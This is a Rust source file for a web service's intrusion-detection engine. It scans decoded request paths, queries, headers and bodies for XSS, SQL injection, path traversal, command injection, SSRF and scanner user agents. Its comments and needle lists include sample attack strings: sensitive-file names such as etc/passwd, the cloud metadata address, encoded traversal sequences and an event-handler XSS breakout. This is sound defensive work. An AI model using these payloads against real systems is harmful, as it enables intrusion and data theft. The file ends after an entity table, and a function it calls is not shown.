//! Intrusion detection: a small rules engine that looks at one request (path,
//! query, a few headers and the first 64 KiB of the body) and names the
//! rules it trips — XSS, SQL injection, path traversal, command injection,
//! SSRF targets and scanner user agents.
//!
//! The engine only reports; the caller turns each [`Finding`] into a
//! `SUSPICIOUS_ACTIVITY` security event and decides about blocking. A
//! finding names the rule and the field (`path`, `query.q`,
//! `header.user-agent`, `body.notes`, `body`), never the payload, so it can
//! be logged as it is.
//!
//! How a request is read:
//!
//! - **Path**: percent-decoded up to three rounds (double and triple encoding
//!   such as `%252e%252e%252f`), `%uXXXX` escapes, overlong UTF-8 (`%c0%ae`)
//!   and full-width look-alikes folded to ASCII; `\` counts as `/`. Every
//!   other value is decoded the same way before the rules see it, since a
//!   lenient component further on may decode it again.
//! - **Query** and **form bodies**: split on `&` (at most
//!   [`MAX_QUERY_PARAMS`] pairs), `+` is a space, names and values decoded as
//!   above; the field is `query.<name>` or `body.<name>`, the name cut to 64
//!   characters, control characters removed and anything but letters,
//!   digits and `_ - . [ ]` replaced by `_`.
//! - **Headers**: only `user-agent` (scanner names, and every content rule:
//!   Shellshock and log-poisoning payloads arrive there), `x-original-url`
//!   and `x-rewrite-url` (path-override headers that some proxies and
//!   frameworks honour; kraliki's clients never send them, so a payload there
//!   is intent, read like the path). Not inspected, on purpose: `referer`
//!   (a browser copies whole page URLs into it, with other sites' query
//!   strings — mostly noise), `cookie` (sealed opaque values; the session
//!   cookie is checked cryptographically), `authorization` (credentials never
//!   enter detection), `host` and `x-forwarded-*` (parsed and validated
//!   where they are used: the public URL is configured, client addresses
//!   come from trusted proxies only).
//! - **Body**: the first [`MAX_BODY_INSPECTED`] bytes. JSON that parses is
//!   walked — object keys and string values, at most [`MAX_JSON_STRINGS`],
//!   as `body.a.b` and `body.items.0` — and JSON that does not parse (for
//!   example cut at 64 KiB) is read as text, field `body`. Form bodies are
//!   read like the query. Audio, video, images, PDF, archives and
//!   `application/octet-stream` are skipped (random bytes would trip rules
//!   by chance); anything else is read as text. Password and refresh-token
//!   fields are skipped: they are only ever hashed, and strong random
//!   passwords are exactly the noise these rules would trip on.
//!
//! Every matcher is a hand-written scan over bytes, case-insensitive where
//! the attacked interpreter is: no regular expressions, no backtracking, so
//! the work is linear in the inspected size. The token buffer of the SQL
//! matcher is reused across fields; decoded copies are made only when a
//! value contains an escape.
//!
//! What the rules recognise, and what they deliberately let pass, is written
//! on each matcher below. Known gaps, on purpose or not yet done:
//!
//! - Not yet: SSRF to loopback and private addresses (`127.0.0.1`,
//!   `localhost`, `10.0.0.0/8`) — a development webhook to `localhost` is
//!   legitimate, so outbound URL validation has to live where URLs are used.
//! - Not yet: argument-less short commands after a separator (`; ls`,
//!   `| id`, `;id;`); they collide with `name;id` style lists. Inside `$(…)`
//!   or backticks they are found. Unix command names are matched in lower
//!   case only (shells are case sensitive), so `; CAT /etc/passwd` is found
//!   by the traversal rule only.
//! - Not yet: blind boolean SQL injection without a tautology
//!   (`1 and 1=2`), `ORDER BY` probing without a quote before it,
//!   `"`-quoted injection ended by a comment, JavaScript-string breakouts
//!   with no markup (`";alert(1);//`), CSS-escaped `expression`, template
//!   injection (`{{…}}`), `data:image/svg+xml` documents (the console may
//!   send SVG data URLs legitimately).
//! - Payloads split across several parameters, or placed in an uninspected
//!   header or a skipped body, are not joined up or seen.
//! - Text that quotes attack syntax is reported like the attack: a note
//!   saying "type ../ to go up", a Markdown snippet `` `ls -la` ``, a
//!   `file:///C:/…` link, the address `169.254.169.254` written out, a
//!   `<object>` tag name. Such notes are rare in call-center traffic; a
//!   single finding raises one event, and blocking needs repeated ones.

use std::borrow::Cow;
use std::fmt;
use std::net::{Ipv4Addr, Ipv6Addr};

use serde::Serialize;
use serde_json::Value;

/// Bytes of a body that are inspected; the rest is ignored.
pub const MAX_BODY_INSPECTED: usize = 64 * 1024;

/// Query (or form) parameters inspected per request; later ones are ignored.
pub const MAX_QUERY_PARAMS: usize = 256;

/// JSON object keys plus string values inspected per body.
pub const MAX_JSON_STRINGS: usize = 4096;

/// Findings reported per request; a request with this many is hostile enough.
pub const MAX_FINDINGS: usize = 64;

/// Headers whose values are inspected (lower-case names).
pub const INSPECTED_HEADERS: &[&str] = &["user-agent", "x-original-url", "x-rewrite-url"];

/// Rounds of percent-decoding, enough for triple encoding.
const DECODE_ROUNDS: usize = 3;

/// Characters kept of a parameter or key name in a field name.
const MAX_NAME_CHARS: usize = 64;

/// Bytes kept of a whole field name (deeply nested JSON paths are cut).
const MAX_FIELD_BYTES: usize = 256;

/// JSON keys whose values are never inspected (compared case-insensitively).
const SKIPPED_JSON_KEYS: &[&str] = &[
    "password",
    "current_password",
    "new_password",
    "password_confirmation",
    "refresh_token",
];

/// A detection rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleId {
    /// Markup or URL schemes that run script in a browser.
    Xss,
    /// SQL syntax that breaks out of a literal or stacks a statement.
    SqlInjection,
    /// `..` segments or well-known system files.
    PathTraversal,
    /// A shell separator followed by a command, or a shell by its path.
    CommandInjection,
    /// Cloud metadata addresses and URL schemes that reach internal services.
    Ssrf,
    /// A user agent of a known attack or scanning tool.
    ScannerUserAgent,
}

impl RuleId {
    /// Every rule, in reporting order.
    pub const ALL: [RuleId; 6] = [
        RuleId::Xss,
        RuleId::SqlInjection,
        RuleId::PathTraversal,
        RuleId::CommandInjection,
        RuleId::Ssrf,
        RuleId::ScannerUserAgent,
    ];

    /// Wire spelling, e.g. `sql_injection`.
    pub fn as_str(self) -> &'static str {
        match self {
            RuleId::Xss => "xss",
            RuleId::SqlInjection => "sql_injection",
            RuleId::PathTraversal => "path_traversal",
            RuleId::CommandInjection => "command_injection",
            RuleId::Ssrf => "ssrf",
            RuleId::ScannerUserAgent => "scanner_user_agent",
        }
    }

    fn bit(self) -> u8 {
        1 << (self as u8)
    }
}

impl fmt::Display for RuleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One rule matched in one field of a request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// The rule that matched.
    pub rule: RuleId,
    /// Where it matched: `path`, `query.<name>`, `header.<name>`,
    /// `body.<dotted.path>` or `body`. Never the matched text.
    pub field: String,
}

/// The parts of a request that intrusion detection reads. (No `Debug`: it
/// holds raw request text, which must not reach a log by accident.)
#[derive(Clone, Copy, Default)]
pub struct Inspected<'a> {
    /// The raw path, still percent-encoded.
    pub path: &'a str,
    /// The raw query string, without `?`, still encoded.
    pub query: Option<&'a str>,
    /// Request headers with lower-case names; only [`INSPECTED_HEADERS`]
    /// are read.
    pub headers: &'a [(&'a str, &'a str)],
    /// The body, or its beginning; only [`MAX_BODY_INSPECTED`] bytes are read.
    pub body: Option<&'a [u8]>,
    /// The `Content-Type` header, which selects how the body is read.
    pub content_type: Option<&'a str>,
}

/// Inspect a request and return what it trips, at most one finding per rule
/// and field and at most [`MAX_FINDINGS`] in all, in the order path, query,
/// headers, body.
pub fn inspect(req: &Inspected<'_>) -> Vec<Finding> {
    let mut run = Run::default();

    run.path("path", req.path);

    if let Some(query) = req.query {
        let query = query.strip_prefix('?').unwrap_or(query);
        run.pairs("query", query.as_bytes());
    }

    for (name, value) in req.headers {
        if name.eq_ignore_ascii_case("user-agent") {
            run.user_agent(value);
        } else if name.eq_ignore_ascii_case("x-original-url") {
            run.path("header.x-original-url", value);
        } else if name.eq_ignore_ascii_case("x-rewrite-url") {
            run.path("header.x-rewrite-url", value);
        }
    }

    if let Some(body) = req.body {
        let body = &body[..body.len().min(MAX_BODY_INSPECTED)];
        run.body(body, req.content_type);
    }

    run.findings
}

/// A set of rules, one bit each.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct RuleSet(u8);

impl RuleSet {
    fn add_if(&mut self, rule: RuleId, hit: bool) {
        if hit {
            self.0 |= rule.bit();
        }
    }

    fn union(self, other: RuleSet) -> RuleSet {
        RuleSet(self.0 | other.0)
    }

    fn contains(self, rule: RuleId) -> bool {
        self.0 & rule.bit() != 0
    }

    fn is_empty(self) -> bool {
        self.0 == 0
    }
}

/// How the body is read, from its media type.
enum BodyKind {
    Json,
    Form,
    Binary,
    Text,
}

fn body_kind(content_type: Option<&str>) -> BodyKind {
    let Some(content_type) = content_type else {
        return BodyKind::Text;
    };
    let essence = content_type
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .as_bytes();
    let is = |t: &str| essence.eq_ignore_ascii_case(t.as_bytes());
    let (top, sub) = match essence.iter().position(|&b| b == b'/') {
        Some(slash) => (&essence[..slash], &essence[slash + 1..]),
        None => (essence, &essence[essence.len()..]),
    };
    let top_is = |t: &str| top.eq_ignore_ascii_case(t.as_bytes());
    let sub_ends_json = sub.len() >= 5 && sub[sub.len() - 5..].eq_ignore_ascii_case(b"+json");
    if is("application/json") || sub_ends_json {
        BodyKind::Json
    } else if is("application/x-www-form-urlencoded") {
        BodyKind::Form
    } else if top_is("audio")
        || top_is("video")
        || top_is("font")
        || (top_is("image") && !sub.eq_ignore_ascii_case(b"svg+xml"))
        || [
            "application/octet-stream",
            "application/pdf",
            "application/zip",
            "application/gzip",
            "application/x-gzip",
        ]
        .iter()
        .any(|t| is(t))
    {
        BodyKind::Binary
    } else {
        BodyKind::Text
    }
}

/// One JSON path segment, kept borrowed until a field name is needed.
enum Seg<'v> {
    Key(&'v str),
    Index(usize),
}

/// State of one inspection: the findings so far and reusable buffers.
#[derive(Default)]
struct Run {
    findings: Vec<Finding>,
    tokens: Vec<Tok>,
}

impl Run {
    fn record(&mut self, hits: RuleSet, field: impl FnOnce() -> String) {
        if hits.is_empty() {
            return;
        }
        let field = field();
        for rule in RuleId::ALL {
            if !hits.contains(rule) || self.findings.len() >= MAX_FINDINGS {
                continue;
            }
            if !self
                .findings
                .iter()
                .any(|f| f.rule == rule && f.field == field)
            {
                self.findings.push(Finding {
                    rule,
                    field: field.clone(),
                });
            }
        }
    }

    /// Decode a value and run the content rules (all but the scanner rule).
    fn scan(&mut self, raw: &[u8], plus_is_space: bool, path_mode: bool) -> RuleSet {
        let decoded = decode(raw, plus_is_space);
        let v: &[u8] = &decoded;
        let mut hits = RuleSet::default();
        hits.add_if(RuleId::Xss, xss(v));
        hits.add_if(RuleId::SqlInjection, sql_injection(v, &mut self.tokens));
        hits.add_if(RuleId::PathTraversal, path_traversal(v, path_mode));
        hits.add_if(RuleId::CommandInjection, command_injection(v));
        hits.add_if(RuleId::Ssrf, ssrf(v));
        hits
    }

    fn path(&mut self, field: &'static str, path: &str) {
        let hits = self.scan(path.as_bytes(), false, true);
        self.record(hits, || field.to_string());
    }

    fn user_agent(&mut self, value: &str) {
        let mut hits = self.scan(value.as_bytes(), false, false);
        hits.add_if(
            RuleId::ScannerUserAgent,
            scanner_user_agent(value.as_bytes()),
        );
        self.record(hits, || "header.user-agent".to_string());
    }

    /// `name=value&…` pairs of a query string or a form body.
    fn pairs(&mut self, prefix: &str, raw: &[u8]) {
        for pair in raw
            .split(|&b| b == b'&')
            .filter(|p| !p.is_empty())
            .take(MAX_QUERY_PARAMS)
        {
            let (name, value) = match pair.iter().position(|&b| b == b'=') {
                Some(eq) => (&pair[..eq], &pair[eq + 1..]),
                None => (pair, &pair[pair.len()..]),
            };
            let hits = self
                .scan(name, true, false)
                .union(self.scan(value, true, false));
            self.record(hits, || {
                let mut field = format!("{prefix}.");
                push_name(&mut field, &decode(name, true));
                field
            });
        }
    }

    fn body(&mut self, body: &[u8], content_type: Option<&str>) {
        match body_kind(content_type) {
            BodyKind::Json => match serde_json::from_slice::<Value>(body) {
                Ok(value) => {
                    let mut budget = MAX_JSON_STRINGS;
                    self.json(&value, &mut Vec::new(), &mut budget);
                }
                Err(_) => self.text(body),
            },
            BodyKind::Form => self.pairs("body", body),
            BodyKind::Binary => {}
            BodyKind::Text => self.text(body),
        }
    }

    fn text(&mut self, body: &[u8]) {
        let hits = self.scan(body, false, false);
        self.record(hits, || "body".to_string());
    }

    /// Walk object keys and string values; depth is bounded by serde_json's
    /// recursion limit, breadth by `budget`.
    fn json<'v>(&mut self, value: &'v Value, path: &mut Vec<Seg<'v>>, budget: &mut usize) {
        match value {
            Value::String(s) => {
                if *budget == 0 {
                    return;
                }
                *budget -= 1;
                let hits = self.scan(s.as_bytes(), false, false);
                self.record(hits, || json_field(path));
            }
            Value::Array(items) => {
                for (i, item) in items.iter().enumerate() {
                    if *budget == 0 {
                        return;
                    }
                    path.push(Seg::Index(i));
                    self.json(item, path, budget);
                    path.pop();
                }
            }
            Value::Object(map) => {
                for (key, item) in map {
                    if *budget == 0 {
                        return;
                    }
                    *budget -= 1;
                    let hits = self.scan(key.as_bytes(), false, false);
                    path.push(Seg::Key(key));
                    self.record(hits, || json_field(path));
                    let skipped = SKIPPED_JSON_KEYS
                        .iter()
                        .any(|k| key.eq_ignore_ascii_case(k));
                    if !skipped {
                        self.json(item, path, budget);
                    }
                    path.pop();
                }
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
}

/// `body.a.0.b` for a JSON path, cut to [`MAX_FIELD_BYTES`].
fn json_field(path: &[Seg<'_>]) -> String {
    let mut field = String::from("body");
    for seg in path {
        field.push('.');
        match seg {
            Seg::Key(key) => push_name(&mut field, key.as_bytes()),
            Seg::Index(i) => field.push_str(&i.to_string()),
        }
        if field.len() > MAX_FIELD_BYTES {
            break;
        }
    }
    if field.len() > MAX_FIELD_BYTES {
        let mut cut = MAX_FIELD_BYTES;
        while !field.is_char_boundary(cut) {
            cut -= 1;
        }
        field.truncate(cut);
    }
    field
}

/// Append a parameter or key name safe for a log line: at most 64
/// characters, control characters removed, anything but letters, digits and
/// `_ - . [ ]` replaced by `_`; an empty name becomes `_`.
fn push_name(out: &mut String, raw: &[u8]) {
    let start = out.len();
    let text = String::from_utf8_lossy(raw);
    for c in text
        .chars()
        .filter(|c| !c.is_control())
        .take(MAX_NAME_CHARS)
    {
        if c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '[' | ']') {
            out.push(c);
        } else {
            out.push('_');
        }
    }
    if out.len() == start {
        out.push('_');
    }
}

// ---------------------------------------------------------------------------
// Decoding
// ---------------------------------------------------------------------------

/// Undo URL encoding as a lenient server might: `+` as space (first round,
/// query and form only), then up to three rounds of `%XX` and `%uXXXX`, with
/// overlong UTF-8 and full-width look-alikes folded to ASCII after each.
fn decode(raw: &[u8], plus_is_space: bool) -> Cow<'_, [u8]> {
    let mut current: Cow<'_, [u8]> = Cow::Borrowed(raw);
    if plus_is_space && raw.contains(&b'+') {
        let spaced = raw
            .iter()
            .map(|&b| if b == b'+' { b' ' } else { b })
            .collect();
        current = Cow::Owned(spaced);
    }
    if let Some(folded) = fold_lookalikes(&current) {
        current = Cow::Owned(folded);
    }
    for _ in 0..DECODE_ROUNDS {
        if !current.contains(&b'%') {
            break;
        }
        let mut next: Vec<u8> = match percent_encoding::percent_decode(&current).into() {
            Cow::Owned(bytes) => bytes,
            Cow::Borrowed(_) => match decode_percent_u(&current) {
                // Nothing to decode: "50% off" stays as it is.
                None => break,
                Some(unicode) => unicode,
            },
        };
        if next.contains(&b'%') {
            if let Some(unicode) = decode_percent_u(&next) {
                next = unicode;
            }
        }
        if let Some(folded) = fold_lookalikes(&next) {
            next = folded;
        }
        if next.as_slice() == current.as_ref() {
            break;
        }
        current = Cow::Owned(next);
    }
    current
}

/// IIS-style `%uXXXX` escapes, or `None` when there are none.
fn decode_percent_u(v: &[u8]) -> Option<Vec<u8>> {
    let mut out: Option<Vec<u8>> = None;
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'%' && i + 6 <= v.len() && (v[i + 1] | 0x20) == b'u' {
            let code = std::str::from_utf8(&v[i + 2..i + 6])
                .ok()
                .filter(|h| h.bytes().all(|b| b.is_ascii_hexdigit()))
                .and_then(|h| u32::from_str_radix(h, 16).ok())
                .and_then(char::from_u32);
            if let Some(c) = code {
                let out = out.get_or_insert_with(|| v[..i].to_vec());
                let mut buf = [0u8; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                i += 6;
                continue;
            }
        }
        if let Some(out) = out.as_mut() {
            out.push(v[i]);
        }
        i += 1;
    }
    out
}

/// Fold byte sequences that lenient decoders turn into ASCII: overlong UTF-8
/// (`C0 AE` is `.`), the malformed `C0 2F` style, and the full-width or
/// mathematical forms of `. / \ < >`. `None` when nothing changed; valid
/// UTF-8 text other than those look-alikes is left alone.
fn fold_lookalikes(v: &[u8]) -> Option<Vec<u8>> {
    let mut out: Option<Vec<u8>> = None;
    let mut i = 0;
    while i < v.len() {
        if v[i] < 0xc0 {
            if let Some(out) = out.as_mut() {
                out.push(v[i]);
            }
            i += 1;
            continue;
        }
        let (ascii, len) = lookalike_at(v, i);
        match ascii {
            Some(a) => {
                out.get_or_insert_with(|| v[..i].to_vec()).push(a);
            }
            None => {
                if let Some(out) = out.as_mut() {
                    out.extend_from_slice(&v[i..i + len]);
                }
            }
        }
        i += len;
    }
    out
}

/// The ASCII byte a look-alike sequence at `i` stands for, and its length.
fn lookalike_at(v: &[u8], i: usize) -> (Option<u8>, usize) {
    let b0 = v[i];
    let b1 = v.get(i + 1).copied().unwrap_or(0);
    let b2 = v.get(i + 2).copied().unwrap_or(0);
    let b3 = v.get(i + 3).copied().unwrap_or(0);
    let cont = |b: u8| (0x80..=0xbf).contains(&b);
    match b0 {
        0xc0 | 0xc1 if cont(b1) => (Some(((b0 & 0x1f) << 6) | (b1 & 0x3f)), 2),
        0xc0 | 0xc1 if matches!(b1, b'.' | b'/' | b'\\') => (Some(b1), 2),
        0xe0 if (0x80..=0x81).contains(&b1) && cont(b2) => {
            (Some(((b1 & 0x3f) << 6) | (b2 & 0x3f)), 3)
        }
        0xf0 if b1 == 0x80 && b2 == 0x80 && cont(b3) => (Some(b3 & 0x3f), 4),
        // U+FF0E, U+FF0F, U+FF3C, U+FF1C, U+FF1E: full-width . / \ < >
        0xef if b1 == 0xbc && b2 == 0x8e => (Some(b'.'), 3),
        0xef if b1 == 0xbc && b2 == 0x8f => (Some(b'/'), 3),
        0xef if b1 == 0xbc && b2 == 0xbc => (Some(b'\\'), 3),
        0xef if b1 == 0xbc && b2 == 0x9c => (Some(b'<'), 3),
        0xef if b1 == 0xbc && b2 == 0x9e => (Some(b'>'), 3),
        // U+2215 division slash, U+2216 set minus
        0xe2 if b1 == 0x88 && b2 == 0x95 => (Some(b'/'), 3),
        0xe2 if b1 == 0x88 && b2 == 0x96 => (Some(b'\\'), 3),
        _ => (None, 1),
    }
}

// ---------------------------------------------------------------------------
// Byte helpers
// ---------------------------------------------------------------------------

fn starts_with_ci(v: &[u8], at: usize, needle: &[u8]) -> bool {
    v.len() >= at + needle.len() && v[at..at + needle.len()].eq_ignore_ascii_case(needle)
}

/// Every start of `needle` in `v`, case-insensitively; O(len · needle).
fn positions_ci<'a>(v: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    let last = (v.len() + 1).saturating_sub(needle.len());
    let first = needle.first().map_or(0, u8::to_ascii_lowercase);
    v[..last]
        .iter()
        .enumerate()
        .filter(move |&(i, &b)| b.to_ascii_lowercase() == first && starts_with_ci(v, i, needle))
        .map(|(i, _)| i)
}

/// A fixed list of needles with a table of their first bytes, built at
/// compile time, for [`find_needles`].
struct Needles {
    list: &'static [&'static [u8]],
    first: [bool; 256],
}

impl Needles {
    const fn new(list: &'static [&'static [u8]]) -> Needles {
        let mut first = [false; 256];
        let mut i = 0;
        while i < list.len() {
            let b = list[i][0].to_ascii_lowercase();
            first[b as usize] = true;
            i += 1;
        }
        Needles { list, first }
    }
}

/// Every `(position, needle)` where one of the needles starts in `v`,
/// case-insensitively, in one pass: a byte is compared further only when it
/// is the first byte of some needle. A needle that starts with a letter is
/// only looked for at the start of a word (not after a letter or digit).
fn find_needles<'a>(
    v: &'a [u8],
    needles: &'a Needles,
) -> impl Iterator<Item = (usize, &'static [u8])> + 'a {
    v.iter()
        .enumerate()
        .filter(move |&(i, &b)| {
            needles.first[usize::from(b.to_ascii_lowercase())]
                && !(b.is_ascii_alphabetic() && i > 0 && v[i - 1].is_ascii_alphanumeric())
        })
        .flat_map(move |(i, &b)| {
            let b = b.to_ascii_lowercase();
            needles
                .list
                .iter()
                .filter(move |n| n[0].to_ascii_lowercase() == b && starts_with_ci(v, i, n))
                .map(move |n| (i, *n))
        })
}

/// Letters, digits, `_`, and any non-ASCII byte (part of a letter).
fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

fn is_letter(b: u8) -> bool {
    b.is_ascii_alphabetic() || b >= 0x80
}

// ---------------------------------------------------------------------------
// Path traversal
// ---------------------------------------------------------------------------

/// Well-known files read through traversal, with either separator.
static SENSITIVE_FILES: Needles = Needles::new(&[
    b"etc/passwd",
    b"etc\\passwd",
    b"etc/shadow",
    b"etc\\shadow",
    b"proc/self/",
    b"proc\\self\\",
    b"win.ini",
    b"boot.ini",
    b"windows/system32",
    b"windows\\system32",
]);

/// `..` as a path segment, or a well-known system file. In the path every
/// all-dots segment of two or more counts (`/..`, `/../`, `/..;/`); in other
/// values the dots must start a segment (start, separator, space, `=`,
/// quote…) and be followed by `/` or `\`, so "wait.../" and an ellipsis on
/// its own pass while `?file=../../x` does not.
fn path_traversal(v: &[u8], path_mode: bool) -> bool {
    dot_segments(v, path_mode) || sensitive_file(v)
}

fn dot_segments(v: &[u8], path_mode: bool) -> bool {
    let sep = |b: u8| b == b'/' || b == b'\\';
    let n = v.len();
    let mut i = 0;
    while i < n {
        if v[i] != b'.' {
            i += 1;
            continue;
        }
        let start = i;
        while i < n && v[i] == b'.' {
            i += 1;
        }
        let dots = i - start;
        if dots < 2 {
            continue;
        }
        let before = start.checked_sub(1).map(|p| v[p]);
        let after = v.get(i).copied();
        let opens_segment = match before {
            None => true,
            Some(b) if sep(b) => true,
            Some(b) => {
                !path_mode
                    && (b <= b' ' || matches!(b, b'=' | b'\'' | b'"' | b':' | b'(' | b',' | b';'))
            }
        };
        if !opens_segment {
            continue;
        }
        let closes_segment = match after {
            Some(b) => sep(b) || (path_mode && b == b';'),
            None => path_mode || (dots == 2 && before.is_none_or(sep)),
        };
        if closes_segment {
            return true;
        }
    }
    false
}

fn sensitive_file(v: &[u8]) -> bool {
    find_needles(v, &SENSITIVE_FILES).any(|(i, needle)| {
        let after = i + needle.len();
        (i == 0 || !is_word_byte(v[i - 1]))
            && (needle.ends_with(b"/")
                || needle.ends_with(b"\\")
                || v.get(after).is_none_or(|&b| !is_word_byte(b)))
    })
}

// ---------------------------------------------------------------------------
// XSS
// ---------------------------------------------------------------------------

/// Tags that load or run code whatever their attributes.
const DANGEROUS_TAGS: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"meta",
];

/// Markup that a browser would run: a dangerous tag, any tag with an
/// `on<event>=` attribute, a `javascript:`/`vbscript:` URL (letters may be
/// split by tabs or newlines, as browsers strip them), an HTML `data:` URL,
/// `srcdoc=` or CSS `expression(`. HTML character references are decoded
/// first. A `<` that does not open a tag — "a < b", "<3", "x<y" — passes.
fn xss(v: &[u8]) -> bool {
    let decoded = decode_entities(v);
    let v: &[u8] = &decoded;
    has_markup(v) || has_script_url(v) || attribute_breakout(v)
}

/// A value that closes an HTML attribute and opens an event handler without
/// any tag: `x" onfocus=alert(1) autofocus="`.
fn attribute_breakout(v: &[u8]) -> bool {
    let n = v.len();
    let mut i = 0;
    while i < n {
        if !matches!(v[i], b'"' | b'\'') {
            i += 1;
            continue;
        }
        let start = i + 1;
        i = start;
        while i < n && (v[i] <= b' ' || v[i] == b'/') {
            i += 1;
        }
        if i > start && has_event_handler(&v[start - 1..(i + 40).min(n)]) {
            return true;
        }
    }
    false
}

fn has_markup(v: &[u8]) -> bool {
    let n = v.len();
    let mut i = 0;
    while i < n {
        if v[i] != b'<' {
            i += 1;
            continue;
        }
        let mut j = i + 1;
        if j < n && v[j] == b'/' {
            j += 1;
        }
        if j >= n || !v[j].is_ascii_alphabetic() {
            i += 1;
            continue;
        }
        let name_start = j;
        while j < n && (v[j].is_ascii_alphanumeric() || v[j] == b'-' || v[j] == b':') {
            j += 1;
        }
        let delimited = j == n || v[j] <= b' ' || v[j] == b'/' || v[j] == b'>';
        let name = &v[name_start..j];
        if delimited && DANGEROUS_TAGS.iter().any(|t| name.eq_ignore_ascii_case(t)) {
            return true;
        }

        // Attributes run to the closing `>` or the next `<`, whichever is
        // first, so every byte is looked at by one tag only.
        let mut end = j;
        while end < n && v[end] != b'>' && v[end] != b'<' {
            end += 1;
        }
        if delimited && has_event_handler(&v[j..end]) {
            return true;
        }
        i = end;
    }
    false
}

/// An attribute named `on` plus three or more letters, followed by `=`.
fn has_event_handler(attrs: &[u8]) -> bool {
    let n = attrs.len();
    for k in 1..n {
        let sep = attrs[k - 1];
        if !(sep <= b' ' || matches!(sep, b'/' | b'"' | b'\'')) || !starts_with_ci(attrs, k, b"on")
        {
            continue;
        }
        let mut m = k + 2;
        while m < n && attrs[m].is_ascii_alphabetic() {
            m += 1;
        }
        if m - (k + 2) < 3 {
            continue;
        }
        while m < n && attrs[m] <= b' ' {
            m += 1;
        }
        if m < n && attrs[m] == b'=' {
            return true;
        }
    }
    false
}

/// Media types of `data:` URLs that a browser renders as a document or runs.
const SCRIPT_DATA_TYPES: &[&[u8]] = &[
    b"text/html",
    b"text/javascript",
    b"application/javascript",
    b"application/x-javascript",
    b"application/ecmascript",
    b"application/xhtml+xml",
];

/// Script URL schemes, `data:` media types, `srcdoc=` and `expression(`, in
/// one pass keyed on the first letter.
fn has_script_url(v: &[u8]) -> bool {
    (0..v.len()).any(|i| {
        if i > 0 && is_word_byte(v[i - 1]) {
            return false;
        }
        match v[i].to_ascii_lowercase() {
            b'j' => script_scheme(v, i, b"javascript"),
            b'v' => script_scheme(v, i, b"vbscript"),
            b'l' => script_scheme(v, i, b"livescript"),
            b'd' => spread_word_then_colon(v, i, b"data").is_some_and(|colon| {
                let mut k = colon + 1;
                while k < v.len() && v[k] <= b' ' {
                    k += 1;
                }
                // The type ends at `;` or `,`: "Data: text/html pages" is prose.
                SCRIPT_DATA_TYPES.iter().any(|t| {
                    starts_with_ci(v, k, t) && matches!(v.get(k + t.len()), Some(b';' | b','))
                })
            }),
            b's' if starts_with_ci(v, i, b"srcdoc") => {
                let mut k = i + 6;
                while k < v.len() && v[k] <= b' ' {
                    k += 1;
                }
                v.get(k) == Some(&b'=')
            }
            b'e' if starts_with_ci(v, i, b"expression") => {
                // A CSS value, after `:` as in `width: expression(…)`;
                // "Expression(s) of interest" is prose. (Only old Internet
                // Explorer ran these, so the narrow match costs little.)
                let mut p = i;
                while p > 0 && v[p - 1] <= b' ' {
                    p -= 1;
                }
                let css = p > 0 && v[p - 1] == b':';
                css && v.get(skip_block_comments(v, i + 10)) == Some(&b'(')
            }
            _ => false,
        }
    })
}

fn script_scheme(v: &[u8], i: usize, scheme: &[u8]) -> bool {
    spread_word_then_colon(v, i, scheme).is_some_and(|colon| url_context(v, i, colon))
}

/// Match `word` at `at` allowing control characters (tab, newline, NUL…)
/// between its letters and before the colon; the colon's index.
fn spread_word_then_colon(v: &[u8], at: usize, word: &[u8]) -> Option<usize> {
    let mut k = at;
    for (idx, &want) in word.iter().enumerate() {
        if idx > 0 {
            while k < v.len() && v[k] < b' ' {
                k += 1;
            }
        }
        if k >= v.len() || v[k].to_ascii_lowercase() != want {
            return None;
        }
        k += 1;
    }
    while k < v.len() && v[k] < b' ' {
        k += 1;
    }
    (k < v.len() && v[k] == b':').then_some(k)
}

/// A script URL, not the word "JavaScript: …" in prose: something follows
/// the colon directly, or the scheme starts the value or an attribute.
fn url_context(v: &[u8], start: usize, colon: usize) -> bool {
    let mut k = colon + 1;
    while k < v.len() && v[k] < b' ' {
        k += 1;
    }
    if k < v.len() && v[k] != b' ' {
        return true;
    }
    let mut p = start;
    while p > 0 && v[p - 1] <= b' ' {
        p -= 1;
    }
    p == 0 || matches!(v[p - 1], b'=' | b'"' | b'\'' | b'(' | b'`' | b'>')
}

/// Skip short `/* … */` comments starting at `k`; the first index after
/// them. A comment must close within 64 bytes, which keeps repeated calls
/// linear.
fn skip_block_comments(v: &[u8], mut k: usize) -> usize {
    while starts_with_ci(v, k, b"/*") {
        let window = &v[k + 2..v.len().min(k + 66)];
        match positions_ci(window, b"*/").next() {
            Some(end) => k = k + 2 + end + 2,
            None => return v.len(),
        }
    }
    k
}

/// Decode HTML character references (`&#106;`, `&#x6a`, `&colon;`, `&lt;`…),
/// one level, as a browser does in attributes and text. Borrowed when there
/// are none.
fn decode_entities(v: &[u8]) -> Cow<'_, [u8]> {
    if !v.contains(&b'&') {
        return Cow::Borrowed(v);
    }
    let mut out = Vec::with_capacity(v.len());
    let mut changed = false;
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'&' {
            if let Some((bytes, len)) = entity_at(v, i) {
                let mut buf = [0u8; 4];
                out.extend_from_slice(bytes.encode_utf8(&mut buf).as_bytes());
                i += len;
                changed = true;
                continue;
            }
        }
        out.push(v[i]);
        i += 1;
    }
    if changed {
        Cow::Owned(out)
    } else {
        Cow::Borrowed(v)
    }
}

const NAMED_ENTITIES: &[(&[u8], char)] = &[
    (b"colon;", ':'),
    (b"tab;", '\t'),
    (b"newline;", '\n'),
    (b"lt;", '<'),
    (b"gt;", '>'),
    (b"quot;", '"'),
    (b"apos;", '\''),
    (b"lpar;", '('),
    (b"rpar;", ')'),
    (b"sol;", '/'),
    (b"amp;", '&'),
];

